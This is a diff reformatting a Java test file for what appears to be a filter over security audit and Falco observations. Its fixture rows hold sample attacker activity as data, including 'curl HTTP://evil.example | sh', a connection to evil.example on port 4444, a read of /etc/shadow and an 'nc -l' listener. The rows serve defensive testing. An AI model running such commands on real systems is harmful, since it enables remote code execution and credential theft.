@@ -62,14 +62,31 @@ class FilterTest {
         }
       };
 
-  private static Observation row(@Nullable Long nanos, int line, String program, String args, Activity activity) {
+  private static Observation row(
+      @Nullable Long nanos, int line, String program, String args, Activity activity) {
     return new Observation(
         nanos == null ? null : new ObservedTime(nanos, TimeText.rfc3339(nanos, 0)),
         line % 2 == 0
             ? Location.UNKNOWN
-            : new Location("node-1", "shop", "web-7d9", null, "web", "c0ffee" + "0".repeat(58), "reg/shop:1",
-                ImageDigest.in(DIGEST).orElseThrow(), new WorkloadRef("shop", "Deployment", "web")),
-        new ProcessInfo(100 + line, 7, null, program, null, args, null, line == 1 ? 0 : null,
+            : new Location(
+                "node-1",
+                "shop",
+                "web-7d9",
+                null,
+                "web",
+                "c0ffee" + "0".repeat(58),
+                "reg/shop:1",
+                ImageDigest.in(DIGEST).orElseThrow(),
+                new WorkloadRef("shop", "Deployment", "web")),
+        new ProcessInfo(
+            100 + line,
+            7,
+            null,
+            program,
+            null,
+            args,
+            null,
+            line == 1 ? 0 : null,
             new ProcessInfo.Parent(50, null, "/usr/sbin/nginx", "nginx", null)),
         activity,
         line == 3 ? Set.of(Quality.FAILED) : Set.of(),
@@ -78,29 +95,89 @@ class FilterTest {
 
   private static final List<Observation> ROWS =
       List.of(
-          row(AT, 1, "/bin/sh", "sh\0-c\0curl  HTTP://evil.example | sh", new Activity.ProcessStarted()),
-          row(AT + 30 * SECOND, 2, "/usr/bin/curl", "curl http://evil.example",
-              new Activity.ConnectionOpened(new Endpoint("10.0.0.1", 40000, null),
-                  new Endpoint("203.0.113.9", 4444, "evil.example"), "tcp")),
-          row(AT + 60 * SECOND, 3, "/bin/cat", "cat", new Activity.FileOpened("/etc/Shadow", "O_RDONLY")),
-          row(AT + 61 * SECOND, 4, "/bin/pause", "pause",
-              new Activity.ApiRequest("create", "pods", "exec", "prod", "db-0", "alice", null, null, "198.51.100.7",
-                  "kubectl/1.31", 101, "/api/v1/namespaces/prod/pods/db-0/exec")),
-          row(AT + 62 * SECOND, 5, "/bin/ñandú", "",
-              new Activity.Alert("Read *sensitive*", "Warning", "a file was read",
+          row(
+              AT,
+              1,
+              "/bin/sh",
+              "sh\0-c\0curl  HTTP://evil.example | sh",
+              new Activity.ProcessStarted()),
+          row(
+              AT + 30 * SECOND,
+              2,
+              "/usr/bin/curl",
+              "curl http://evil.example",
+              new Activity.ConnectionOpened(
+                  new Endpoint("10.0.0.1", 40000, null),
+                  new Endpoint("203.0.113.9", 4444, "evil.example"),
+                  "tcp")),
+          row(
+              AT + 60 * SECOND,
+              3,
+              "/bin/cat",
+              "cat",
+              new Activity.FileOpened("/etc/Shadow", "O_RDONLY")),
+          row(
+              AT + 61 * SECOND,
+              4,
+              "/bin/pause",
+              "pause",
+              new Activity.ApiRequest(
+                  "create",
+                  "pods",
+                  "exec",
+                  "prod",
+                  "db-0",
+                  "alice",
+                  null,
+                  null,
+                  "198.51.100.7",
+                  "kubectl/1.31",
+                  101,
+                  "/api/v1/namespaces/prod/pods/db-0/exec")),
+          row(
+              AT + 62 * SECOND,
+              5,
+              "/bin/ñandú",
+              "",
+              new Activity.Alert(
+                  "Read *sensitive*",
+                  "Warning",
+                  "a file was read",
                   new Activity.FileOpened("/etc/shadow", null))),
-          row(AT + 63 * SECOND, 6, "/bin/nc", "nc -l",
+          row(
+              AT + 63 * SECOND,
+              6,
+              "/bin/nc",
+              "nc -l",
               new Activity.Listening(new Endpoint("0.0.0.0", 4444, null), "tcp")),
-          row(null, 7, "/bin/dig", "dig", new Activity.NameLookedUp("evil.example", "203.0.113.9")));
+          row(
+              null,
+              7,
+              "/bin/dig",
+              "dig",
+              new Activity.NameLookedUp("evil.example", "203.0.113.9")));
 
   private static final List<Judgement> JUDGEMENTS =
-      List.of(Judgement.of(Reason.MATCHED), Judgement.of(Reason.NEW_PEER), Judgement.of(Reason.EXECUTED_FROM_MEMORY));
+      List.of(
+          Judgement.of(Reason.MATCHED),
+          Judgement.of(Reason.NEW_PEER),
+          Judgement.of(Reason.EXECUTED_FROM_MEMORY));
 
   private static Evidence evidence(List<Observation> rows) {
     List<Source> sources = new ArrayList<>();
     for (int i = 0; i < 2; i++) {
       sources.add(
-          new Source(i, i == 0 ? "audit.log" : "falco.jsonl", "0".repeat(64), "f", 1, 0, 0, 0, List.of(), Map.of(),
+          new Source(
+              i,
+              i == 0 ? "audit.log" : "falco.jsonl",
+              "0".repeat(64),
+              "f",
+              1,
+              0,
+              0,
+              0,
+              List.of(),
+              Map.of(),
               List.of()));
     }
     return new Evidence(sources, Observations.of(rows), Inventory.EMPTY);
@@ -193,7 +270,11 @@ class FilterTest {
 
   @Test
   void aTimeOfDayIsRefusedWhereItIsAmbiguous() throws FilterError {
-    Evidence days = evidence(List.of(ROWS.get(0), row(AT + 86_400 * SECOND, 2, "x", "x", new Activity.ProcessStarted())));
+    Evidence days =
+        evidence(
+            List.of(
+                ROWS.get(0),
+                row(AT + 86_400 * SECOND, 2, "x", "x", new Activity.ProcessStarted())));
     Filter filter = Filter.parse("kind=exec time>10:15");
     assertThatThrownBy(() -> filter.rows(days, verdicts(2), MARKS))
         .isInstanceOfSatisfying(
@@ -255,14 +336,44 @@ class FilterTest {
   @Provide
   Arbitrary<String> garbage() {
     Arbitrary<String> pieces =
-        Arbitraries.of("and", "or", "not", "(", ")", "=", "!=", "~", "!~", "<", ">=", "\"", "\\", "*", " ", "time", "pid",
-            "star", "severity", "10:15", "2026-11-20", "T10:00Z", "9999999999999999999", "curl", "!", "\0", "é", "\ud800");
-    return Arbitraries.oneOf(pieces.list().ofMaxSize(12).map(p -> String.join("", p)), Arbitraries.strings().ofMaxLength(20));
+        Arbitraries.of(
+            "and",
+            "or",
+            "not",
+            "(",
+            ")",
+            "=",
+            "!=",
+            "~",
+            "!~",
+            "<",
+            ">=",
+            "\"",
+            "\\",
+            "*",
+            " ",
+            "time",
+            "pid",
+            "star",
+            "severity",
+            "10:15",
+            "2026-11-20",
+            "T10:00Z",
+            "9999999999999999999",
+            "curl",
+            "!",
+            "\0",
+            "é",
+            "\ud800");
+    return Arbitraries.oneOf(
+        pieces.list().ofMaxSize(12).map(p -> String.join("", p)),
+        Arbitraries.strings().ofMaxLength(20));
   }
 
   @Property(tries = 300)
   void columnsGiveTheSameRowsAsLookingAtEachObservation(
-      @ForAll("rows") List<Observation> rows, @ForAll("expressions") String expression) throws FilterError {
+      @ForAll("rows") List<Observation> rows, @ForAll("expressions") String expression)
+      throws FilterError {
     Evidence evidence = evidence(rows);
     Verdicts verdicts = verdicts(rows.size());
     Term term = new FilterParser(expression).parse();
@@ -272,32 +383,72 @@ class FilterTest {
         expected.set(row);
       }
     }
-    assertThat(Filter.parse(expression).rows(evidence, verdicts, MARKS)).as(expression).isEqualTo(expected);
+    assertThat(Filter.parse(expression).rows(evidence, verdicts, MARKS))
+        .as(expression)
+        .isEqualTo(expected);
   }
 
   @Provide
   Arbitrary<String> expressions() {
     Arbitrary<String> values =
-        Arbitraries.of("a", "ab", "b*", "*a", "a*b", "A", "aB", "/a", "sh", "1", "7", "ba", "\"a b\"", "\"\"", "*", "x/y", "é");
+        Arbitraries.of(
+            "a", "ab", "b*", "*a", "a*b", "A", "aB", "/a", "sh", "1", "7", "ba", "\"a b\"", "\"\"",
+            "*", "x/y", "é");
     Arbitrary<String> fields =
-        Arbitraries.of("ns", "workload", "pod", "container", "image", "node", "program", "args", "parent", "user", "file",
-            "peer", "dns", "rule", "verb", "resource", "source", "kind", "verdict", "reason", "tag", "quality");
+        Arbitraries.of(
+            "ns",
+            "workload",
+            "pod",
+            "container",
+            "image",
+            "node",
+            "program",
+            "args",
+            "parent",
+            "user",
+            "file",
+            "peer",
+            "dns",
+            "rule",
+            "verb",
+            "resource",
+            "source",
+            "kind",
+            "verdict",
+            "reason",
+            "tag",
+            "quality");
     Arbitrary<String> numbers = Arbitraries.of("pid", "ppid", "uid", "port", "line");
     Arbitrary<String> term =
         Arbitraries.oneOf(
             values,
-            Combinators.combine(fields, Arbitraries.of("=", "~", "!=", "!~"), values).as((f, s, v) -> f + s + v),
-            Combinators.combine(numbers, Arbitraries.of("=", "<", ">=", "!="), Arbitraries.integers().between(0, 9))
+            Combinators.combine(fields, Arbitraries.of("=", "~", "!=", "!~"), values)
                 .as((f, s, v) -> f + s + v),
-            Arbitraries.of("time<10:15:05", "time>=2026-11-20T10:15:03Z", "severity>low", "star=yes", "kind=exec"));
-    return Combinators.combine(term, term, Arbitraries.of("%s", "%s %s", "%s or %s", "not (%s or %s)", "not %s and %s"))
+            Combinators.combine(
+                    numbers,
+                    Arbitraries.of("=", "<", ">=", "!="),
+                    Arbitraries.integers().between(0, 9))
+                .as((f, s, v) -> f + s + v),
+            Arbitraries.of(
+                "time<10:15:05",
+                "time>=2026-11-20T10:15:03Z",
+                "severity>low",
+                "star=yes",
+                "kind=exec"));
+    return Combinators.combine(
+            term,
+            term,
+            Arbitraries.of("%s", "%s %s", "%s or %s", "not (%s or %s)", "not %s and %s"))
         .as((a, b, form) -> String.format(form, a, b));
   }
 
   @Provide
   Arbitrary<List<Observation>> rows() {
     Arbitrary<@Nullable String> text =
-        Arbitraries.of("a", "b", "ab", "AB", "ba", "/a", "/b/a", "a\0b", "sh", "/bin/sh", "", "aab", "é", "x", "y").injectNull(0.2);
+        Arbitraries.of(
+                "a", "b", "ab", "AB", "ba", "/a", "/b/a", "a\0b", "sh", "/bin/sh", "", "aab", "é",
+                "x", "y")
+            .injectNull(0.2);
     Arbitrary<String> given = text.map(t -> t == null ? "a" : t);
     Arbitrary<Integer> number = Arbitraries.integers().between(0, 9);
     Arbitrary<Activity> plain =
@@ -305,10 +456,15 @@ class FilterTest {
             Arbitraries.just(new Activity.ProcessStarted()),
             text.map(t -> new Activity.ProcessEnded(null, t)),
             Combinators.combine(text, number, text, number)
-                .as((l, lp, r, rp) -> new Activity.ConnectionOpened(new Endpoint(l, lp, null), new Endpoint(null, rp, r), "a")),
+                .as((l, lp, r, rp) ->
+                    new Activity.ConnectionOpened(
+                        new Endpoint(l, lp, null), new Endpoint(null, rp, r), "a")),
             Combinators.combine(text, number, text, number)
-                .as((l, lp, r, rp) -> new Activity.ConnectionAccepted(new Endpoint(null, lp, l), new Endpoint(r, rp, null), null)),
-            Combinators.combine(text, number).as((l, p) -> new Activity.Listening(new Endpoint(l, p, null), null)),
+                .as((l, lp, r, rp) ->
+                    new Activity.ConnectionAccepted(
+                        new Endpoint(null, lp, l), new Endpoint(r, rp, null), null)),
+            Combinators.combine(text, number)
+                .as((l, p) -> new Activity.Listening(new Endpoint(l, p, null), null)),
             Combinators.combine(given, text).as(Activity.NameLookedUp::new),
             Combinators.combine(given, text).as(Activity.FileOpened::new),
             Combinators.combine(given, text).as(Activity.FileWritten::new),
@@ -316,19 +472,31 @@ class FilterTest {
             Combinators.combine(given, text)
                 .as((n, d) -> new Activity.KernelAction(Activity.KernelAction.Type.HOOK, n, d)),
             Combinators.combine(given, text, text, text, text, text)
-                .as((v, r, s, n, u, a) -> new Activity.ApiRequest(v, r, s, n, a, u, s, n, a, r, 200, u)),
+                .as((v, r, s, n, u, a) ->
+                    new Activity.ApiRequest(v, r, s, n, a, u, s, n, a, r, 200, u)),
             text.map(t -> new Activity.EventsLost(5_000_000_000L, t)));
     Arbitrary<Activity> activity =
         Arbitraries.oneOf(
             plain,
-            Combinators.combine(given, text, plain.injectNull(0.4)).as((r, m, about) -> new Activity.Alert(r, null, m, about)));
+            Combinators.combine(given, text, plain.injectNull(0.4))
+                .as((r, m, about) -> new Activity.Alert(r, null, m, about)));
     Arbitrary<Location> location =
         Combinators.combine(text, text, text, given)
-            .as((n, p, c, w) -> new Location(n, p, c, w, p, n, c, null, n == null ? null : new WorkloadRef(n, p, w)));
+            .as((n, p, c, w) ->
+                new Location(
+                    n, p, c, w, p, n, c, null, n == null ? null : new WorkloadRef(n, p, w)));
     Arbitrary<ProcessInfo> process =
         Combinators.combine(number.injectNull(0.3), text, text, text, number.injectNull(0.5), text)
             .as((pid, exe, name, line, uid, parent) ->
-                new ProcessInfo(pid, uid, null, exe, name, line, null, uid,
+                new ProcessInfo(
+                    pid,
+                    uid,
+                    null,
+                    exe,
+                    name,
+                    line,
+                    null,
+                    uid,
                     parent == null ? null : new ProcessInfo.Parent(pid, null, parent, name, line)));
     return Combinators.combine(location, process, activity, number)
         .as((l, p, a, n) -> new Object[] {l, p, a, n})
@@ -344,8 +512,12 @@ class FilterTest {
       Object[] part = parts.get(i);
       long nanos = AT + i * SECOND;
       rows.add(
-          new Observation(i > 9 ? null : new ObservedTime(nanos, TimeText.rfc3339(nanos, 0)), (Location) part[0],
-              (ProcessInfo) part[1], (Activity) part[2], i % 3 == 0 ? Set.of(Quality.TTY) : Set.of(),
+          new Observation(
+              i > 9 ? null : new ObservedTime(nanos, TimeText.rfc3339(nanos, 0)),
+              (Location) part[0],
+              (ProcessInfo) part[1],
+              (Activity) part[2],
+              i % 3 == 0 ? Set.of(Quality.TTY) : Set.of(),
               new RecordRef(i % 2, (Integer) part[3] + 1L, i, 1)));
     }
     return rows;
